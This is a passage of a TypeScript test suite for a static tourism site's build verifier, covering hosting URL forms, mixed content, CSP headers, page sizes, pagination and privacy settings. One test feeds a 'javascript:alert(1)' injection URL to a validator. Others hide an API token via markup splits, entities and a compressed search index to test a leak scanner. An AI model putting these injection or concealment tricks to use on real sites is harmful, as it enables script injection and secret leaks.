    ['tour/101.html', 'tour/101/index.html'],
    ['news.html', 'news/index.html'],
    ['news/page/2.html', 'news/page/2/index.html'],
    ['index.html', null],
    ['404.html', null],
    ['news/index.html', null],
    ['_astro/x.html', null],
    ['sw.js', null],
  ])('the folder form of %s is %s', (file, mirror) => {
    expect(mirrorOf(file)).toBe(mirror);
  });
});

describe('the hosting gate', () => {
  const hosting = async (overrides: Partial<VerifyOptions> = {}) =>
    messages((await runVerify(fixture.options(overrides))).problems, 'hosting');

  it('refuses a build in which a page is reachable under one convention only (news.html and news/ without news/index.html)', async () => {
    await unlink(path.join(fixture.dist, 'news/index.html'));
    expect(await hosting()).toEqual([
      'The page /news (news.html) is not served as any static host serves it: /news only on file-first hosts ' +
        '(folder-first: /news → /news/ → 404); /news/ on no host (file-first: /news/ → 404; folder-first: /news/ → 404).',
    ]);
  });

  it('refuses a page that no host finds with a trailing slash', async () => {
    await unlink(path.join(fixture.dist, 'tour/101/index.html'));
    expect(await hosting()).toEqual([
      'The page /tour/101 (tour/101.html) is not served as any static host serves it: /tour/101/ on no host ' +
        '(file-first: /tour/101/ → 404; folder-first: /tour/101/ → 404).',
    ]);
  });

  it("refuses a folder form that is another page than the page's file", async () => {
    await fixture.write('about/index.html', page('<p>old</p>'));
    expect(await hosting()).toEqual([
      'about/index.html differs from about.html: a host that serves /x/ would show another page than one that serves /x.',
    ]);
  });

  it('refuses links and canonical URLs in another form, and path-relative references', async () => {
    await fixture.write(
      'contato.html',
      page(
        `<a href="/news/">n</a><a href="${SITE_ORIGIN}/tour/101.html">t</a><a href="/">home</a><a href="/about?x=1#y">ok</a>` +
          '<img src="images/logo.svg" alt="">',
      ).replace(`<link rel="canonical" href="${SITE_ORIGIN}/">`, `<link rel="canonical" href="${SITE_ORIGIN}/contato/">`),
    );
    await preparePublication(fixture.dist, 'any');
    expect(await hosting()).toEqual([
      'contato.html: <a> points to /news/, not to the one form of its page (no trailing slash, no .html).',
      'contato.html: <a> points to /tour/101.html, not to the one form of its page (no trailing slash, no .html).',
      'contato.html: a path-relative reference "images/logo.svg" on <img>, which points elsewhere at /contato/; use a path from the root.',
      'contato.html: <link rel=canonical> points to /contato/, not to the one form of its page (no trailing slash, no .html).',
    ]);
  });

  it('refuses mixed content: a form that sends to mailto: or http:, a picture or script over plain HTTP', async () => {
    await fixture.write(
      'contato.html',
      page(
        '<form action="mailto:turismo@example.com" method="post"><button>Enviar</button></form>' +
          '<form action="http://forms.example.com/send"></form><form action="https://forms.example.com/ok"></form>' +
          '<form action="/busca"></form><form></form>' +
          '<img src="http://cdn.example.com/a.jpg" alt=""><img src="https://cdn.example.com/b.jpg" alt="">' +
          '<a href="http://example.com/">a link to a site without HTTPS is not loaded by the page</a><a href="mailto:a@example.com">e-mail</a>',
      ),
    );
    await preparePublication(fixture.dist, 'any');
    expect(await hosting()).toEqual([
      'contato.html: a <form> sends to "mailto:turismo@example.com", which an HTTPS page warns about before sending (mixed content); hand off from a script or a link.',
      'contato.html: a <form> sends to "http://forms.example.com/send", which an HTTPS page warns about before sending (mixed content); hand off from a script or a link.',
      'contato.html: <img> loads "http://cdn.example.com/a.jpg" over plain HTTP, which an HTTPS page blocks (mixed content).',
    ]);
  });

  it('refuses a build without _headers, with a stale one, or without .nojekyll', async () => {
    const headers = await readFile(path.join(fixture.dist, '_headers'), 'utf8');
    await unlink(path.join(fixture.dist, '_headers'));
    await unlink(path.join(fixture.dist, '.nojekyll'));
    expect(await hosting()).toEqual([
      expect.stringMatching(/^_headers is missing: hosts that read it would send no Content-Security-Policy header/),
      expect.stringMatching(/^\.nojekyll is missing: a GitHub Pages deploy from a branch would run Jekyll/),
    ]);
    await writeFile(path.join(fixture.dist, '_headers'), headers.replace("'self'", "'self' https://cdn.example"));
    await writeFile(path.join(fixture.dist, '.nojekyll'), '');
    expect(await hosting()).toEqual([expect.stringMatching(/^_headers was not written for this build/)]);
  });
});

describe('_headers', () => {
  const policy = (content: string) => pagePolicy(scanTags(`<meta http-equiv="content-security-policy" content="${content}">`));

  it('one policy for every page: the union of theirs, with style hashes left to each page', () => {
    const a = policy("default-src 'self'; script-src 'self' 'sha256-AAA'; style-src-elem 'self' 'sha256-S1'");
    const b = policy(
      "default-src 'self'; script-src 'self' 'sha256-BBB'; style-src-elem 'self' 'sha256-S2'; frame-src https://x.example",
    );
    expect(headerPolicy([a, b].flatMap((entry) => (entry ? [entry] : [])))).toBe(
      "default-src 'self'; script-src 'self' 'sha256-AAA' 'sha256-BBB'; style-src-elem 'self' 'unsafe-inline'; frame-src https://x.example",
    );
  });

  it('caches /_astro/ for a year, revalidates pages at /x and /x/ and sw.js, and sends each header once per path', () => {
    const files = [
      'index.html',
      '404.html',
      'about.html',
      'about/index.html',
      'news.html',
      'news/index.html',
      'news/1.html',
      'news/1/index.html',
      '_astro/a.js',
      'sw.js',
    ];
    const rules = parseHeadersFile(formatHeadersFile(headerRules(files, [])));
    const cache = (pathname: string) => headersForPath(rules, pathname).get('cache-control');
    expect(cache('/_astro/a.js')).toBe('public, max-age=31536000, immutable');
    for (const pathname of ['/', '/about', '/about/', '/news', '/news/', '/news/1', '/news/1/', '/sw.js']) {
      expect(cache(pathname), pathname).toBe('public, max-age=0, must-revalidate');
    }
    expect(cache('/favicon.svg')).toBeUndefined();
    expect(headersForPath(rules, '/news/1').has('content-security-policy')).toBe(true);
  });

  it("matches the real build's policy on every page of the fixture", async () => {
    const rules = parseHeadersFile(await readFile(path.join(fixture.dist, '_headers'), 'utf8'));
    expect(headersForPath(rules, '/tour/101').get('content-security-policy')).toContain(`'${scriptHash(OWN_INLINE)}'`);
  });
});

describe('the size gate', () => {
  it('refuses a page of one record over 1 MB, naming it and its size; a list page has a larger limit', async () => {
    const big = 'x'.repeat(1_200_000);
    await fixture.write('tour/102.html', page(`<p>${big}</p>`));
    await fixture.write('all-tours.html', page(`<ul id="lista"><li><a href="/tour/101">101</a></li></ul><p>${big}</p>`));
    await preparePublication(fixture.dist, 'any');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'sizes')).toEqual([
      'tour/102.html is 1.2 MB, over the 1 MB limit for a page of one record: some upstream data is far larger than the site expects. ' +
        'Fix it at its source, or raise VERIFY_MAX_PAGE_BYTES (--max-page-bytes) if the size is intended.',
    ]);
    const lower = await runVerify(fixture.options({ pageSizeLimits: { recordPage: 2_000_000, listPage: 1_000_000 } }));
    expect(messages(lower.problems, 'sizes')).toEqual([
      expect.stringMatching(/^all-tours\.html is 1\.2 MB, over the 1 MB limit for a page that lists a collection/),
    ]);
  });

  it('takes its limits from the command line or the environment', async () => {
    await fixture.write('tour/102.html', page(`<p>${'x'.repeat(300_000)}</p>`));
    await preparePublication(fixture.dist, 'any');
    const env = { ...BASE_ENV, SNAPSHOT_DIR: fixture.snapshot };
    const args = ['scripts/verify.ts', '--dist', fixture.dist];
    await exec(process.execPath, args, { cwd: ROOT, env });
    const failed = await exec(process.execPath, args, { cwd: ROOT, env: { ...env, VERIFY_MAX_PAGE_BYTES: '250kB' } }).catch(
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed).toMatchObject({
      code: 1,
      stderr: expect.stringMatching(/Pages over the size limit \(1\):\n {2}- tour\/102\.html is 30\d kB/),
    });
    const flag = await exec(process.execPath, [...args, '--max-page-bytes', 'lots'], { cwd: ROOT, env }).catch(
      (error: { code: number; stderr: string }) => error,
    );
    expect(flag).toMatchObject({ code: 1, stderr: expect.stringContaining('is "lots", which is not a size') });
  });

  it.each([
    ['1500000', 1_500_000],
    ['1.5MB', 1_500_000],
    ['800 kB', 800_000],
    ['0', null],
    ['-1', null],
    ['1 MiB', null],
  ])('reads %s as %s bytes', (text, bytes) => {
    expect(parseBytes(text)).toBe(bytes);
  });

  it('is silent at the limit and formats sizes for people', () => {
    expect(
      checkPageSizes([{ file: 'tour/1.html', bytes: DEFAULT_PAGE_SIZE_LIMITS.recordPage }], DEFAULT_PAGE_SIZE_LIMITS),
    ).toEqual([]);
    expect([formatBytes(999), formatBytes(87_000), formatBytes(16_000_000)]).toEqual(['999 B', '87 kB', '16 MB']);
  });
});

describe('secrets in what people and the search read', () => {
  const half = SECRET.length / 2;
  it.each([
    [
      'split by markup',
      `chave ${SECRET.slice(0, half)}<span class="x">${SECRET.slice(half)}</span>`,
      'in its text with the tags removed',
    ],
    [
      'split by a comment and an entity',
      `${SECRET.slice(0, half)}<!-- x -->&#${SECRET.charCodeAt(half)};${SECRET.slice(half + 1)}`,
      'in its text with the tags removed',
    ],
    [
      'split by a line break and a zero-width space',
      `${SECRET.slice(0, half)}\n<b>&#8203;${SECRET.slice(half)}</b>`,
      'in its text with the tags removed',
    ],
    [
      'entity-encoded in an attribute',
      `<img src="/images/logo.svg" alt="${[...SECRET].map((char) => `&#${char.charCodeAt(0)};`).join('')}">`,
      'in an attribute of <img>',
    ],
  ])('refuses a page with a secret %s, without printing it', async (_name, markup, where) => {
    await fixture.write('news/1008.html', page(`<p>${markup}</p>`));
    await preparePublication(fixture.dist, 'any');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'secrets')).toEqual([`news/1008.html contains the value of PROVIDER_API_TOKEN (${where}).`]);
    expect(formatReport(problems)).not.toContain(SECRET);
  });

  it('refuses a secret that only the decompressed search index holds (a real Pagefind index)', async () => {
    const { index } = await createIndex();
    if (!index) throw new Error('Pagefind did not start');
    await index.addHTMLFile({
      url: '/news/1008',
      content: `<html lang="pt-BR"><body><main data-pagefind-body><h1>Notícia</h1><p>chave ${SECRET.slice(0, half)}<span>${SECRET.slice(half)}</span></p></main></body></html>`,
    });
    await index.writeFiles({ outputPath: path.join(fixture.dist, 'pagefind') });
    await closePagefind();

    const { problems } = await runVerify(fixture.options());
    const found = messages(problems, 'secrets');
    expect(found.length).toBeGreaterThan(0);
    for (const message of found) {
      expect(message).toMatch(
        /^pagefind\/\S+\.pf_\w+ contains the value of PROVIDER_API_TOKEN \(in the search index, decompressed\)\.$/,
      );
    }
    expect(found.some((message) => message.startsWith('pagefind/fragment/'))).toBe(true);
    expect(formatReport(problems)).not.toContain(SECRET);
  }, 60_000);

  it('decompresses only what carries the Pagefind signature', async () => {
    const { gzipSync } = await import('node:zlib');
    expect(decompressPagefind(gzipSync(Buffer.from('pagefind_dcd{"a":1}')))?.toString()).toBe('{"a":1}');
    expect(decompressPagefind(gzipSync(Buffer.from('other')))).toBeNull();
    expect(decompressPagefind(Buffer.from('pagefind_dcd plain'))).toBeNull();
  });
});

describe('the pages of a list', () => {
  const tours = (listed: number, unlisted = 0) => [
    ...Array.from({ length: listed }, (_, index) => ({ id: `t${index}` })),
    ...Array.from({ length: unlisted }, (_, index) => ({ id: `u${index}`, isListed: false })),
  ];
  const listPaths = (snapshot: Snapshot) =>
    expectedPages(snapshot)
      .map((page) => page.path)
      .filter((sitePath) => sitePath.startsWith('/all-tours'));

  it.each([
    ['48 listed tours: one page, no index', 48, 0, []],
    ['49 listed tours: page 2 and the index its filters fetch', 49, 0, ['/all-tours/page/2', '/all-tours/index.json']],
    ['48 listed and 5 not listed: the list leaves them out, one page', 48, 5, []],
    ['97 listed: three pages', 97, 0, ['/all-tours/page/2', '/all-tours/page/3', '/all-tours/index.json']],
  ])('%s', (_, listed, unlisted, later) => {
    expect(listPaths({ tours: tours(listed, unlisted) })).toEqual(['/all-tours', ...later]);
  });

  it('names a missing page of a list', async () => {
    const snapshot = { ...SNAPSHOT, tours: tours(49) };
    await writeFile(path.join(fixture.snapshot, 'tours.json'), JSON.stringify(snapshot.tours));
    for (const { id } of snapshot.tours) await fixture.write(`tour/${id}.html`, page(''));
    await fixture.write('all-tours/index.json', '[]');
    await writeBuildManifest(fixture.dist, fixture.snapshot, fixture.root);
    await preparePublication(fixture.dist, 'any');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual(['The page /all-tours/page/2 (page 2 of the tours list) was not built.']);
  });

  it('reads which providers are not listed from the snapshot', async () => {
    await writeFile(
      path.join(fixture.snapshot, 'tourProviders.json'),
      JSON.stringify([
        { id: '801', isListed: true, title: 'A' },
        { id: '804', isListed: false, title: 'B' },
      ]),
    );
    const { snapshot } = await readSnapshot(fixture.snapshot);
    expect(snapshot.tourProviders).toEqual([{ id: '801' }, { id: '804', isListed: false }]);
  });
});

describe('configurationWarnings: what a production build should configure', () => {
  const config = (env: Record<string, string>) => readSiteConfig(env);
  it('says nothing for the sample or a test build (the example address)', () => {
    expect(configurationWarnings(config({}))).toEqual([]);
  });
  it('names the missing encarregado and controller of a real site', () => {
    const warnings = configurationWarnings(config({ SITE_URL: 'https://turismo.nobres.mt.gov.br' }));
    expect(warnings).toEqual([
      expect.stringMatching(/^PRIVACY_OFFICER_NAME and PRIVACY_OFFICER_EMAIL are not set/),
      expect.stringMatching(/^CITY_BODY is not set/),
    ]);
  });
  it('is quiet once both are configured', () => {
    const env = {
      SITE_URL: 'https://turismo.nobres.mt.gov.br',
      CITY_BODY: 'Prefeitura Municipal de Nobres',
      PRIVACY_OFFICER_NAME: 'Ana Souza',
      PRIVACY_OFFICER_EMAIL: 'dpo@nobres.mt.gov.br',
    };
    expect(configurationWarnings(config(env))).toEqual([]);
  });
  it('refuses half an officer, or an e-mail that is not one', () => {
    expect(() => config({ PRIVACY_OFFICER_NAME: 'Ana' })).toThrow(/PRIVACY_OFFICER_EMAIL \(""\): falta, e vai junto/);
    expect(() => config({ PRIVACY_OFFICER_NAME: 'Ana', PRIVACY_OFFICER_EMAIL: 'ana' })).toThrow(/is not an e-mail address/);
    expect(() => config({ TRANSPARENCY_URL: 'javascript:alert(1)' })).toThrow(
      /TRANSPARENCY_URL \("javascript:alert\(1\)"\): só endereços http/,
    );
  });
});
